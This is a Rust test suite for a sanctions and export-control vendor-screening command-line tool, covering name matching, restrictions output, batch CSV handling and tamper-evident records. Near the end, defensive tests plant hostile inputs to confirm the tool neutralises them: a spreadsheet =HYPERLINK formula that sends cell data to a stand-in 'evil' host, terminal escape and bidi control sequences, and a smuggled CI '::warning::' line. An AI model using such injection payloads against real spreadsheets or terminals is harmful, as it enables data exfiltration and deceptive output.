//! The command line as a script sees it.

use crate::testing::project;
use std::{
    io::Write,
    process::{Output, Stdio},
};

use crate::program::vendor_screener;
use serde_json::Value;
use vendor_screener::index::Index;

fn run(args: &[&str]) -> Output {
    vendor_screener().args(args).output().unwrap()
}

fn stdout(output: &Output) -> &str {
    std::str::from_utf8(&output.stdout).unwrap()
}

fn stderr(output: &Output) -> &str {
    std::str::from_utf8(&output.stderr).unwrap()
}

fn json(args: &[&str]) -> Value {
    let output = run(&[args, &["--format", "json"]].concat());
    assert!(output.status.success(), "{}", stderr(&output));
    serde_json::from_slice(&output.stdout).unwrap()
}

fn file(name: &str, bytes: &[u8]) -> String {
    let path = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join(name);
    std::fs::write(&path, bytes).unwrap();
    path.display().to_string()
}

/// The lists on which the best hit stands, with the day since when.
fn listings(answer: &Value) -> Vec<(String, String)> {
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let mut found: Vec<_> = answer["hits"][0]["listings"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|listing| listing["status"] == "in_force")
        .map(|listing| (text(&listing["list"]), text(&listing["since"])))
        .collect();
    found.sort();
    found
}

const HIKVISION: [(&str, &str); 5] = [
    ("us-bis-el", "2019-10-09"),
    ("us-dod-1260h", "2021-06-03"),
    ("us-fcc-covered", "2021-03-12"),
    ("us-ndaa-889", "2018-08-13"),
    ("us-ofac-cmic", "2021-06-03"),
];

#[test]
fn hikvision_is_one_party_on_five_lists_however_it_is_spelt() {
    for name in
        ["Hikvision", "Hik Vision", "hangzhou hikvison digital tech", "HIKVISION CO., LTD.", "hikvision-hangzhou"]
    {
        let answers = json(&["screen", name]);
        let answer = &answers[0];
        assert_eq!(answer["query"], name);
        assert_eq!(answer["hits"].as_array().unwrap().len(), 1, "{name}");
        let expected: Vec<_> = HIKVISION.iter().map(|(list, since)| (list.to_string(), since.to_string())).collect();
        assert_eq!(listings(answer), expected, "{name}");
        let not_found_on = answer["hits"][0]["notFoundOn"].as_array().unwrap();
        assert!(not_found_on.contains(&Value::from("us-ofac-sdn")));
    }
}

#[test]
fn the_table_says_that_hikvision_is_not_found_on_the_sdn_excerpt() {
    let output = run(&["screen", "Hikvision"]);
    let text = stdout(&output);
    let not_found = text.split("Not found on").nth(1).expect("a part on where it was not found");
    assert!(not_found.contains("us-ofac-sdn, EXCERPT"), "{not_found}");
}

#[test]
fn an_answer_lists_everything_that_was_searched() {
    let answers = json(&["screen", "Bakery Müller"]);
    assert_eq!(answers[0]["hits"], Value::Array(vec![]));
    let searched = answers[0]["searched"].as_array().unwrap();
    assert_eq!(searched.len(), 15);
    for list in searched {
        assert!(list["published"].as_str().unwrap().starts_with("20") && list["sha256"].as_str().unwrap().len() == 64);
    }
    let output = run(&["screen", "Bakery Müller"]);
    assert!(stdout(&output).contains("was not found in any of these lists"));
    assert!(stdout(&output).contains("us-ofac-sdn, EXCERPT"));
}

#[test]
fn an_ended_entry_is_shown_as_ended() {
    let answers = json(&["screen", "Megvii"]);
    let listings = answers[0]["hits"][0]["listings"].as_array().unwrap();
    let dod = listings.iter().find(|listing| listing["list"] == "us-dod-1260h").unwrap();
    assert_eq!((&dod["status"], &dod["until"]), (&Value::from("ended"), &Value::from("2025-01-07")));
}

#[test]
fn every_name_gets_its_answer_in_its_order() {
    let answers = json(&["screen", "Alibaba", "Bakery Müller", "Sberbank"]);
    let queries: Vec<_> = answers.as_array().unwrap().iter().map(|answer| answer["query"].as_str().unwrap()).collect();
    assert_eq!(queries, ["Alibaba", "Bakery Müller", "Sberbank"]);
    assert_eq!(listings(&answers[0]).len(), 1);
    assert_eq!(listings(&answers[0])[0].0, "us-dod-1260h");
    let holds = |answer: &Value| {
        let rules = answer["hits"][0]["restrictions"].as_array().unwrap().clone();
        rules.iter().any(|rule| {
            rule["activity"] == "hold_property" && rule["strength"] == "prohibited" && rule["list"] == "us-ofac-sdn"
        })
    };
    assert!(holds(&answers[2]));
}

#[test]
fn names_that_cannot_be_screened_get_an_honest_empty_answer() {
    let long = "a".repeat(10_000);
    for (name, problem) in [
        ("", "empty"),
        ("  ", "empty"),
        ("x", "too_short"),
        (long.as_str(), "too_long"),
        ("🙂🙂", "no_letters"),
        ("\u{1}\u{2}", "no_letters"),
        ("Co., Ltd.", "only_legal_forms"),
        ("Trading", "only_common_words"),
    ] {
        let answers = json(&["screen", name]);
        assert_eq!(answers[0]["problem"], problem, "{name:?}");
        assert_eq!(answers[0]["hits"], Value::Array(vec![]));
    }
}

#[test]
fn filters_narrow_the_answer() {
    assert_eq!(json(&["screen", "Hikvision", "--kind", "person"])[0]["hits"], Value::Array(vec![]));
    let on_el = json(&["screen", "Hikvision", "--list", "us-bis-el"]);
    assert_eq!(on_el[0]["searched"].as_array().unwrap().len(), 1);
    assert_eq!(on_el[0]["hits"].as_array().unwrap().len(), 1);
    assert_eq!(json(&["screen", "Alibaba", "--list", "us-bis-el"])[0]["hits"], Value::Array(vec![]));
}

#[test]
fn the_vendors_country_ranks_and_reminds_and_leaves_no_party_out() {
    let ids = |answers: &Value| -> Vec<String> {
        answers[0]["hits"].as_array().unwrap().iter().map(|hit| hit["party"]["id"].to_string()).collect()
    };
    let mut anywhere = ids(&json(&["screen", "Hikvision"]));
    let mut in_russia = ids(&json(&["screen", "Hikvision", "--country", "ru"]));
    anywhere.sort();
    in_russia.sort();
    assert!(!anywhere.is_empty());
    assert_eq!(in_russia, anywhere);
    let unlisted = run(&["screen", "Zebra Wombat Umbrellas", "--country", "ir"]);
    let said = String::from_utf8_lossy(&unlisted.stdout).into_owned();
    assert!(said.contains("31 CFR") && said.contains("Law on IR"), "{said}");
}

#[test]
fn json_has_the_law_on_the_vendors_country_beside_each_answer() {
    let answers = json(&["screen", "Zebra Wombat Umbrellas", "Hikvision", "--country", "ir"]);
    assert_eq!(answers.as_array().unwrap().len(), 2);
    for answer in answers.as_array().unwrap() {
        let citation = answer["reminders"][0]["citation"].as_str().unwrap_or_default();
        assert!(citation.contains("31 CFR"), "{}: {citation:?}", answer["query"]);
    }
    let anywhere = json(&["screen", "Zebra Wombat Umbrellas"]);
    assert!(anywhere[0].get("reminders").is_none(), "no country, no law on one");
}

#[test]
fn unusable_arguments_exit_with_2_and_say_what_is_possible() {
    for (args, says) in [
        (&["screen", "X", "--list", "us-nothing"][..], "us-bis-el"),
        (&["screen", "X", "--threshold", "101"], "0 to 100"),
        (&["screen", "X", "--kind", "dog"], "organisation"),
        (&["restrictions", "hikvision", "--activity", "dance"], "buy-import"),
        (&["restrictions", "hikvision", "--if-listed", "us-nothing"], "us-ofac-sdn"),
        (&["index", "build", "--out", "/dev/null"], "--starter"),
        (&["screen"], "NAME"),
    ] {
        let output = run(args);
        assert_eq!(output.status.code(), Some(2), "{args:?}");
        assert!(stderr(&output).contains(says), "{args:?}: {}", stderr(&output));
    }
}

#[test]
fn alerts_exit_with_3_only_when_asked() {
    assert_eq!(run(&["screen", "Hikvision"]).status.code(), Some(0));
    assert_eq!(run(&["screen", "Hikvision", "--fail-on-alert"]).status.code(), Some(3));
    assert_eq!(run(&["screen", "Bakery Müller", "--fail-on-alert"]).status.code(), Some(0));
}

#[test]
fn a_broken_index_is_named_with_its_remedy() {
    let broken = file("broken.bin", b"VSCREEN\0 and then nothing that fits");
    let output = run(&["screen", "Hikvision", "--index", &broken]);
    assert_eq!(output.status.code(), Some(1));
    assert!(stderr(&output).contains("broken.bin"), "{}", stderr(&output));
    let missing = run(&["screen", "Hikvision", "--index", "/nowhere.bin"]);
    assert_eq!(missing.status.code(), Some(1));
    assert!(stderr(&missing).contains("/nowhere.bin"));
}

#[test]
fn a_batch_keeps_every_row_in_order_and_says_which_cannot_be_read() {
    let rows = b"ref,supplier\n1,Hikvision\n2,Bakery M\xC3\xBCller\n3\n4,\"Co., Ltd.\"\n5,Sberbank \xFF\n6,Alibaba\n";
    let path = file("vendors.csv", rows);
    let output = run(&["batch", &path, "--column", "supplier"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let mut reader = csv::Reader::from_reader(output.stdout.as_slice());
    let header = reader.headers().unwrap().clone();
    assert_eq!(&header.iter().take(4).collect::<Vec<_>>(), &["ref", "supplier", "status", "best_hit"]);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let column = |name: &str| header.iter().position(|cell| cell == name).unwrap();
    let statuses: Vec<_> = rows.iter().map(|row| (&row[0], &row[column("status")])).collect();
    assert_eq!(
        statuses,
        [("1", "alert"), ("2", "none"), ("3", "unreadable"), ("4", "unreadable"), ("5", "unreadable"), ("6", "alert")]
    );
    assert!(rows[0][column("lists")].contains("us-bis-el"));
    assert!(rows[0][column("restricted_activities")].contains("sell_export"));
    assert!(rows[2][column("detail")].contains("Row 4"), "{}", &rows[2][column("detail")]);
}

#[test]
fn a_batch_without_the_column_says_which_columns_there_are() {
    let path = file("no-column.csv", b"ref,title\n1,Hikvision\n");
    let output = run(&["batch", &path, "--column", "supplier"]);
    assert_eq!(output.status.code(), Some(1));
    let said = stderr(&output);
    assert!(said.contains("no-column.csv, row 1") && said.contains("ref, title"), "{said}");
}

#[test]
fn compare_keeps_every_line_and_adds_its_score() {
    let mut child = vendor_screener().arg("compare").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    let pairs = "name\tcandidate\tkind\textra\nHik Vision\tHikvision\torganisation\tkept\n\"odd\tBakery\t\t\n\nJ Smith\tJohn Smith\tperson\t\n";
    child.stdin.take().unwrap().write_all(pairs.as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    let lines: Vec<&str> = stdout(&output).lines().collect();
    assert_eq!(lines.len(), 5);
    assert_eq!(lines[0], "name\tcandidate\tkind\textra\tscore\talert");
    assert_eq!(lines[1], "Hik Vision\tHikvision\torganisation\tkept\t100\tyes");
    assert!(lines[2].starts_with("\"odd\tBakery\t") && lines[2].ends_with("\tno"));
    assert!(lines[4].ends_with("\tyes"), "{}", lines[4]);
}

#[test]
fn restrictions_take_a_party_or_a_name_and_answer_one_activity() {
    for party in ["hikvision", "Hik Vision"] {
        let known = json(&["restrictions", party, "--activity", "invest"]);
        assert_eq!(known["party"]["id"], "hikvision");
        let rules = known["restrictions"].as_array().unwrap();
        assert!(rules.iter().all(|rule| rule["activity"] == "invest_securities"));
        assert_eq!(rules[0]["strength"], "prohibited");
        assert_eq!(rules[0]["who"], "us_person");
    }
}

/// Finding A2b of the law review of November 2026: what a narrow question is told.
#[test]
fn a_narrow_question_says_what_was_asked_and_that_other_rules_exist() {
    let args = ["restrictions", "huawei", "--activity", "pay-transact", "--who", "importer"];
    let output = run(&args);
    let said = stdout(&output).split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(!said.contains("No entry in force restricts any activity"), "{said}");
    assert!(said.contains("Asked only: Paying it, for the importer into the US."), "{said}");
    assert!(said.contains("No rule of these entries answers to that."), "{said}");
    let known = json(&args);
    let all = json(&["restrictions", "huawei"]);
    let rules = |known: &Value| known["restrictions"].as_array().unwrap().len();
    assert_eq!((rules(&known), &all["leftOut"]), (0, &Value::from(0)));
    assert_eq!(known["leftOut"], Value::from(rules(&all)));
    assert!(said.contains(&format!("{} other rules of these entries", rules(&all))), "{said}");
}

/// Finding A2b of the law review of November 2026: what a narrow question is shown.
#[test]
fn a_narrow_question_shows_no_row_for_what_it_left_out() {
    let row = |args: &[&str], row: &str| stdout(&run(args)).lines().any(|line| line.trim_start().starts_with(row));
    let grant = ["restrictions", "dji", "--activity", "federal-grant-spend"];
    assert!(row(&grant, "Spending US grant money on it") && !row(&grant, "Investing in its securities"));
    assert!(row(&grant[..2], "Investing in its securities") && row(&grant[..2], "Paying it"));
}

/// Finding A5 of the law review of November 2026: the label of what widens a rule.
#[test]
fn a_table_labels_what_widens_a_rule_apart_from_its_exceptions() {
    let output = run(&["restrictions", "hikvision"]);
    let said = stdout(&output).split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(said.contains("Reach: Equipment from its subsidiaries and affiliates is covered too."), "{said}");
    assert!(said.contains("Condition: BIS may grant or refuse the licence."), "{said}");
    assert!(
        said.contains("Exception (US government contracts): An agency can waive the ban in narrow cases."),
        "{said}"
    );
    assert!(!said.contains("Except:"), "{said}");
}

/// Finding A6 of the law review of November 2026: lists that a summary hid.
#[test]
fn a_summary_names_every_list_of_the_strictest_rule_and_the_widest_first() {
    let row = |args: &[&str], start: &str| {
        let output = run(args);
        let text =
            stdout(&output).lines().find(|line| line.trim_start().starts_with(start)).unwrap_or_default().to_owned();
        text.split_whitespace().collect::<Vec<_>>().join(" ")
    };
    let investing = row(&["restrictions", "sberbank"], "Investing in its securities");
    assert!(investing.contains("Prohibited us-ofac-sdn; us-ofac-"), "{investing}");
    let contracts = row(&["restrictions", "hikvision"], "US government contracts");
    assert!(contracts.contains("us-ndaa-889; us-dod-1260h"), "{contracts}");
}

/// Finding A6 of the law review of November 2026: a supposition beside what is real.
#[test]
fn a_supposition_says_what_is_prohibited_already_and_what_it_would_harden() {
    let output = run(&["restrictions", "hikvision", "--if-listed", "us-ofac-sdn"]);
    let said = stdout(&output).split_whitespace().collect::<Vec<_>>().join(" ");
    for expected in [
        "Spending US grant money on it Already today: Prohibited us-ndaa-889; SUPPOSED as well: “Prohibited” under us-ofac-sdn",
        "Investing in its securities Already today: Prohibited us-ofac-cmic; SUPPOSED as well",
        "Selling or exporting to it SUPPOSED: Prohibited us-ofac-sdn; today “Licence required” under us-bis-el",
        "Holding its property SUPPOSED: Prohibited us-ofac-sdn",
        "SUPPOSED: This list binds US persons",
    ] {
        assert!(said.contains(expected), "{expected}: {said}");
    }
}

/// Finding A6 of the law review of November 2026: the length of a supposition.
#[test]
fn a_supposition_is_told_in_120_lines_and_each_of_its_sentences_once() {
    let asked = ["restrictions", "hikvision", "--if-listed", "us-ofac-sdn"];
    let output = run(&asked);
    assert!(stdout(&output).lines().count() <= 120, "{}", stdout(&output).lines().count());
    let said = stdout(&output).split_whitespace().collect::<Vec<_>>().join(" ");
    let known = json(&asked);
    let supposed = |kind: &str| -> Vec<Value> {
        known[kind].as_array().unwrap().iter().filter(|one| one["hypothetical"] == true).cloned().collect()
    };
    for rule in supposed("restrictions").iter().chain(&supposed("limits")) {
        let text = rule["text"].as_str().unwrap();
        assert_eq!(said.matches(text).count(), 1, "{text}");
        assert!(said.contains(rule["citation"].as_str().unwrap()), "{}", rule["citation"]);
        for kind in ["reach", "conditions", "exceptions"] {
            for sentence in rule[kind].as_array().into_iter().flatten() {
                let text = sentence["text"].as_str().unwrap();
                assert_eq!(said.matches(text).count(), 1, "{text}");
            }
        }
        if let Some(next) = rule["next"]["text"].as_str() {
            assert_eq!(said.matches(&format!(": {next}")).count(), 1, "{next}");
        }
    }
}

#[test]
fn what_bars_some_goods_alone_names_them_beside_the_word() {
    let output = run(&["restrictions", "hikvision"]);
    let said = stdout(&output).split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(said.contains("Prohibited us-fcc-covered for new telecom and video surveillance equipment"), "{said}");
    let word = "Buying or importing from it: Prohibited for new telecom and video surveillance equipment";
    assert!(said.contains(word), "{said}");
    let known = json(&["restrictions", "hikvision"]);
    let of = |id: &str| known["restrictions"].as_array().unwrap().iter().find(|rule| rule["id"] == id).unwrap().clone();
    assert_eq!(of("fcc-use-buy")["goods"]["text"], "new telecom and video surveillance equipment");
    assert_eq!(of("fcc-older")["goods"]["text"], "older covered models");
    assert_eq!(of("cmic-invest")["goods"], Value::Null);
}

/// Beside "not found on the NS-CMIC List" stood nothing of its sister that is on it.
#[test]
fn a_sister_that_is_on_a_list_is_named_beside_not_found_on() {
    let output = run(&["screen", "SenseTime"]);
    let said = stdout(&output).split_whitespace().collect::<Vec<_>>().join(" ");
    let sister = "SENSETIME GROUP LIMITED (sensetime-group) has a name like this one and is on: us-ofac-cmic";
    assert!(said.contains(sister), "{said}");
    let card = said.split("id beijing-sensetime").nth(1).unwrap().split("– id ").next().unwrap();
    assert!(card.contains(sister), "{card}");
}

#[test]
fn the_answer_says_what_to_do_next() {
    let output = run(&["restrictions", "iflytek"]);
    let said = stdout(&output).split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(said.contains(": Find the item’s export control classification"), "{said}");
}

#[test]
fn a_supposed_listing_is_marked_and_changes_nothing_else() {
    let plain = json(&["restrictions", "hikvision"]);
    let supposed = json(&["restrictions", "hikvision", "--if-listed", "us-ofac-sdn"]);
    let rules = |known: &Value, hypothetical: bool| -> Vec<Value> {
        let rules = known["restrictions"].as_array().unwrap();
        rules.iter().filter(|rule| rule["hypothetical"] == hypothetical).cloned().collect()
    };
    assert_eq!(rules(&plain, false), rules(&supposed, false));
    assert!(rules(&plain, true).is_empty());
    assert!(
        rules(&supposed, true)
            .iter()
            .any(|rule| rule["activity"] == "hold_property" && rule["strength"] == "prohibited")
    );
}

#[test]
fn an_index_built_from_the_starter_lists_answers_as_the_built_in_one() {
    let path = file("starter.bin.gz", b"");
    assert!(run(&["index", "build", "--starter", "--out", &path]).status.success());
    let inspected = json(&["index", "inspect", &path]);
    assert_eq!(inspected["lists"], json(&["index", "inspect"])["lists"]);
    assert!(inspected["sections"].as_array().unwrap().iter().all(|section| section["gzipBytes"].as_u64().unwrap() > 0));
    assert_eq!(json(&["screen", "Hikvision", "--index", &path]), json(&["screen", "Hikvision"]));
}

#[test]
fn publishing_names_the_index_by_its_content() {
    let folder = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("published");
    assert!(run(&["index", "build", "--starter", "--publish", folder.to_str().unwrap()]).status.success());
    let manifest: Value = serde_json::from_slice(&std::fs::read(folder.join("manifest.json")).unwrap()).unwrap();
    let name = manifest["index"].as_str().unwrap();
    assert!(name.contains(&manifest["sha256"].as_str().unwrap()[..16]));
    let bytes = std::fs::read(folder.join(name)).unwrap();
    assert_eq!(manifest["bytes"], bytes.len());
    assert_eq!(manifest["builder"], env!("CARGO_PKG_VERSION"));
    let lists = manifest["lists"].as_array().unwrap();
    let provenance = ["id", "authority", "source", "published", "retrieved", "rows", "parties", "names", "sha256"];
    assert!(lists.iter().all(|list| provenance.iter().all(|key| list.get(key).is_some())), "{lists:?}");
    let core = manifest["core"].as_u64().unwrap() as usize;
    assert!(Index::open_core(&bytes[..core]).unwrap().add_details(&bytes[core..]).is_ok());
}

#[test]
fn a_curated_list_with_a_broken_row_is_refused_with_file_row_and_remedy() {
    let folder = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("broken-lists");
    std::fs::create_dir_all(&folder).unwrap();
    let root = project("www/lists");
    let manifest = std::fs::read_to_string(root.join("manifest.toml")).unwrap();
    let only_889 = manifest.split("[[list]]").find(|entry| entry.contains("us-ndaa-889")).unwrap();
    std::fs::write(folder.join("manifest.toml"), format!("[[list]]{only_889}")).unwrap();
    let csv = std::fs::read_to_string(root.join("us-ndaa-889.csv")).unwrap();
    std::fs::write(folder.join("us-ndaa-889.csv"), csv.replace("2018-08-13", "2018-13-08")).unwrap();
    let output = run(&["index", "build", folder.to_str().unwrap(), "--out", "/dev/null"]);
    assert_eq!(output.status.code(), Some(1));
    let said = stderr(&output);
    assert!(said.contains("us-ndaa-889.csv, row 2, column \"since\"") && said.contains("YYYY-MM-DD"), "{said}");
}

#[test]
fn help_has_examples() {
    for args in [
        &["--help"][..],
        &["screen", "--help"],
        &["batch", "--help"],
        &["compare", "--help"],
        &["restrictions", "--help"],
    ] {
        assert!(stdout(&run(args)).contains("Example"), "{args:?}");
    }
}

/// A record of nobody, as the page saves it.
fn record() -> review::record::Evidence {
    review::desk::Desk::default().evidence("Jane", None)
}

#[test]
fn a_record_is_verified_and_a_changed_one_refused() {
    for (kind, text) in [("html", record().html()), ("csv", record().csv()), ("json", record().json())] {
        let whole = file(&format!("record.{kind}"), text.as_bytes());
        let output = run(&["record", "verify", &whole]);
        assert!(stdout(&output).contains("Whoever changed it could make them fit"), "{kind}: {}", stderr(&output));
        let changed = file(&format!("changed.{kind}"), text.replace("Jane", "Joan").as_bytes());
        let output = run(&["record", "verify", &changed]);
        assert_eq!(output.status.code(), Some(1));
        assert!(stderr(&output).contains("was changed since it was saved"), "{kind}");
    }
    let other = file("other.csv", b"vendor\nAcme\n");
    assert!(stderr(&run(&["record", "verify", &other])).contains("it is no record"));
}

#[test]
fn a_text_that_is_no_record_is_none_though_its_digits_fit() {
    // Sealed by hand, as `record::seal` says: the digest of the file with zeros in the digits' place.
    let sealed = "vendor,decision\nAcme,false_alert\nrecord-sha256,cda08a3cfe4aa31a974d9d933392c6285297c4d3d673ebc521cf33d76e9516ea\n";
    let output = run(&["record", "verify", &file("any.txt", sealed.as_bytes())]);
    assert_eq!(output.status.code(), Some(1));
    assert!(stderr(&output).contains("it is no record: it has digits as a record has"));
}

#[test]
fn a_record_that_was_changed_and_sealed_anew_is_told_by_digits_kept_elsewhere() {
    let kept = review::record::check_record(record().html().as_bytes()).unwrap();
    let whole = file("kept.html", record().html().as_bytes());
    let output = run(&["record", "verify", &whole, "--expect", &kept.to_uppercase()]);
    assert!(stdout(&output).contains("has the digits expected"), "{}", stderr(&output));
    let forged = review::desk::Desk::default().evidence("Joan", None).html();
    let forged = file("forged.html", forged.as_bytes());
    let output = run(&["record", "verify", &forged, "--expect", &kept]);
    assert_eq!(output.status.code(), Some(1));
    assert!(stderr(&output).contains("it is another record than the one expected"));
    assert_eq!(run(&["record", "verify", &whole, "--expect", "1f40"]).status.code(), Some(2));
}

/// An index with one party whose name is made to harm.
fn index_of(name: &str, party: &str) -> String {
    let list = file(&format!("{name}.csv"), format!("name,reason\n\"{party}\",because\n").as_bytes());
    let index = file(&format!("{name}.bin"), b"");
    let built = run(&["index", "build", &list, "--out", &index]);
    assert!(built.status.success(), "{}", stderr(&built));
    index
}

#[test]
fn nothing_of_a_name_reaches_the_terminal_that_it_would_obey() {
    let index = index_of("obeyed", "Zorblax \u{1b}]0;PWNED\u{7}\u{1b}[31m\u{1b}[2J\u{9b}2J \u{202e}Trading\u{7f}");
    let unseen = |text: &str| text.chars().any(vendor_screener::party::is_unseen);
    for args in [
        &["screen", "Zorblax Trading", "--threshold", "40"][..],
        &["screen", "Zorblax \u{1b}[2J\u{202e}"],
        &["restrictions", "own-obeyed-\u{1b}[2J"],
        &["index", "inspect"],
        &["lists", "status"],
    ] {
        let output = run(&[args, &["--index", &index]].concat());
        assert!(!unseen(stdout(&output)) && !unseen(stderr(&output)), "{args:?}: {output:?}");
    }
    let output = run(&["screen", "Zorblax \u{1b}[2J", "--index", &index]);
    assert!(stdout(&output).contains("Zorblax \\u{1b}[2J"), "{}", stdout(&output));
    for args in
        [&["lists", "status", "no\u{1b}[2J\n::warning::such"][..], &["screen", "a", "--index", "\u{9b}2J\u{2066}"]]
    {
        let output = run(args);
        assert!(!unseen(stderr(&output)) && !stderr(&output).contains("\n::warning"), "{args:?}: {output:?}");
        assert!(stderr(&output).contains("\\u{"));
    }
}

#[test]
fn no_cell_of_a_list_is_a_formula_in_any_csv() {
    let index = index_of("formula", "=HYPERLINK(\"\"http://evil/?\"\"&A1;\"\"x\"\") Krandor Works");
    for args in [
        &["screen", "Krandor Works", "--threshold", "40"][..],
        &["restrictions", "Krandor Works"],
        &["lists", "status"],
    ] {
        let output = run(&[args, &["--index", &index, "--format", "csv"]].concat());
        let mut cells =
            csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(output.stdout.as_slice());
        let cells: Vec<String> =
            cells.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
        assert!(!cells.iter().any(|cell| cell.trim_start().starts_with('=')), "{args:?}: {cells:?}");
    }
    let output = run(&["screen", "Krandor Works", "--threshold", "40", "--index", &index, "--format", "csv"]);
    assert!(stdout(&output).contains("'=HYPERLINK"), "{}", stdout(&output));
}

#[test]
fn the_cells_of_a_table_are_no_formulas_unless_they_are_to_stay_as_they_are() {
    let table = file("formulas.csv", b"vendor,note\nAcme Bakery,=1+1\n");
    let output = run(&["batch", &table]);
    assert!(stdout(&output).contains("Acme Bakery,'=1+1,none"), "{}", stdout(&output));
    let output = run(&["batch", &table, "--raw"]);
    assert!(stdout(&output).contains("Acme Bakery,=1+1,none"), "{}", stdout(&output));
}

#[test]
fn the_countries_of_a_list_are_counted_and_the_way_of_counting_is_said() {
    let csv = file(
        "sdn-countries.csv",
        b"1,\"ACME\",-0- ,\"SDGT\",-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,\"nationality China.\"\r\n2,\"BETA\",-0- ,\"SDGT\",-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- ,-0- \r\n",
    );
    let index = file("sdn-countries.bin.gz", b"");
    let built = run(&["index", "build", &csv, "--published", "2023-01-05", "--out", &index]);
    assert!(built.status.success(), "{}", stderr(&built));
    let spread = json(&["index", "countries", &index, "--country", "CN"]);
    assert_eq!(spread["parties"], 2);
    let counted = |at: usize| (&spread["methods"][at]["method"], &spread["methods"][at]["countries"][0]["parties"]);
    assert_eq!(counted(0), (&Value::from("address"), &Value::from(0)));
    assert_eq!(counted(1), (&Value::from("address_or_tie"), &Value::from(1)));
    let table = run(&["index", "countries", &index, "--country", "CN,HK"]);
    assert!(stdout(&table).contains("CN + HK") && stdout(&table).contains("Address or tie:"), "{}", stdout(&table));
}

#[test]
fn countries_of_a_list_that_the_index_has_not_are_a_usage_error() {
    let output = run(&["index", "countries", "--list", "eu-fsf"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(stderr(&output).contains("no list eu-fsf"), "{}", stderr(&output));
}

#[test]
fn a_table_ends_with_what_no_list_covers_and_where_the_law_on_it_stands() {
    for args in [["restrictions", "hikvision"], ["screen", "Hikvision"]] {
        let output = run(&args);
        let text = stdout(&output);
        let at = text.find("What this does not cover").unwrap();
        for said in
            ["Owners.", "Countries.", "Goods.", "OFAC FAQs 398-401", "31 CFR parts 510, 515 and 560", "15 CFR 736.2(b)"]
        {
            assert!(text[at..].contains(said), "{said} in {text}");
        }
    }
}

#[test]
fn what_was_not_read_in_its_source_says_so_in_a_table_and_in_json() {
    let output = run(&["restrictions", "hikvision", "--activity", "sell_export"]);
    assert!(stdout(&output).contains("UNVERIFIED: check the source"), "{}", stdout(&output));
    let known = json(&["restrictions", "hikvision", "--activity", "sell_export"]);
    let rules = known["restrictions"].as_array().unwrap();
    assert!(rules.iter().any(|rule| rule["evidence"] == "unverified"), "{known}");
}
